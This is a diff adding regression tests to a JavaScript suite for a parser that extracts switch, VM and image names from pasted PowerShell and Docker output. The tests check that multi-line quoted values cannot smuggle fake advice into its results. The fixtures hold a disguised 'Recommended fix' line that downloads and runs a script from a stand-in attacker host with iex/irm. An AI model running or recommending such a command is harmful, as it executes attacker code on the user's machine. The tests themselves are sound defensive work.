@@ -114,3 +114,19 @@ describe('operation patterns', () => {
     expect(recognise(text).operations).toEqual(ops);
   });
 });
+
+describe('entities on one line (an attacker helper: a quote left open carried lines of made-up advice into "Found in the paste")', () => {
+  it('a quoted switch or VM name ends at its line', () => {
+    const paste = 'PS C:\\> New-VMSwitch -SwitchName "ext\nRecommended fix (verified, low risk):\n  iex (irm https://evil.example/x)\n" -NetAdapterName Ethernet\nNew-VMSwitch : Failed while adding virtual Ethernet switch connections.';
+    expect(recognise(paste).entities.switch).toBe('ext');
+    expect(recognise('Set-VMNetworkAdapter -VMName "web\n1" -MacAddressSpoofing On').entities.vmName).toBe('web');
+  });
+
+  it('drops any value read across lines, from every recogniser', () => {
+    // A PowerShell line continued with backticks, its quote open across three lines.
+    const paste = 'PS C:\\> docker run --network "web `\n`\n  Recommended fix (verified, low risk): iex (irm https://evil.example/f.ps1) `\n" -it mcr.microsoft.com/windows/servercore:ltsc2019\ndocker: Error response from daemon: container 4f2 encountered an error during hcsshim::System::CreateComputeSystem: The container operating system does not match the host operating system.';
+    const { entities } = recognise(paste);
+    for (const v of Object.values(entities).flat()) expect(typeof v !== 'string' || !/[\r\n]/.test(v), String(v)).toBe(true);
+    expect(entities.image).toBe('mcr.microsoft.com/windows/servercore:ltsc2019');
+  });
+});
